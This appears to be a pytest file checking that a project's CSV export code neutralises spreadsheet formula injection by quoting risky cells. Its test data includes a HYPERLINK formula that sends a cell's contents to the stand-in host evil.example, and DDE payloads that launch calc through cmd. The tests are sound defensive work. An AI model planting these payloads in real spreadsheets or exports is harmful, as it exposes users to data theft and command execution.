"""CSV cells a spreadsheet would run as formulas are written as text (OWASP's rule)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from viewgen.csvsafe import frame_to_csv, neutralise, neutralise_csv, safe_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")@x.example'


@pytest.mark.parametrize("cell", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_formula_cells_are_prefixed(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ada@example.com", "plain", "", "-5", "+1.5e3", "-0.25",
                                  42, -3, None, 1.5])
def test_ordinary_cells_are_untouched(cell) -> None:
    assert neutralise(cell) == cell


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_frame_keeps_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame({"email": [EVIL, "bob@example.com"], "delta": [-2, 5],
                          "feedback": ["-make it red", None]})
    rows = _cells(frame_to_csv(frame))
    assert rows[0] == ["email", "delta", "feedback"]
    assert rows[1] == ["'" + EVIL, "-2", "'-make it red"]
    assert rows[2] == ["bob@example.com", "5", ""]
    assert frame.loc[0, "email"] == EVIL  # the caller's frame is not changed


def test_csv_text_from_elsewhere_is_rewritten() -> None:
    source = pd.DataFrame({"who": [EVIL], "note": ["line one\n=line two"],
                           "delta": [-3]}).to_csv(index=False)
    rows = _cells(neutralise_csv(source.encode()))
    assert rows[1] == ["'" + EVIL, "line one\n=line two", "-3"]
    assert safe_row(["=1", 2]) == ["'=1", 2]


def test_admin_downloads_of_real_tables_are_neutralised(repo, settings) -> None:
    """What the Admin page's two kinds of download produce, on real rows."""
    from viewgen import analytics, credits
    from viewgen.auth import create_account
    from viewgen.domain import Role
    from viewgen.store import SYSTEM

    admin = create_account(repo, settings, "ada@example.com", password_hash=None,
                           role=Role.ADMIN)
    evil = create_account(repo, settings, EVIL, password_hash=None, display_name="@evil")
    with repo.tx(SYSTEM, write=True) as tx:
        credits.grant(tx, evil.id, 5, "=cmd|' /C calc'!A0")
    users = _cells(frame_to_csv(analytics.users(repo, admin).drop(columns=["user_id"])))
    header = users[0]
    row = next(r for r in users[1:] if "hyperlink" in r[header.index("email")])
    assert row[header.index("email")] == "'" + EVIL.lower()  # emails are stored lower-case
    assert all(not cell.startswith(("=", "@")) for r in users for cell in r)
    ledger = _cells(neutralise_csv(analytics.table_csv(repo, admin, "ledger")))
    assert [c for r in ledger for c in r if "calc" in c] == ["'=cmd|' /C calc'!A0"]
    assert all(not cell.startswith(("=", "@", "+")) for r in ledger for cell in r)
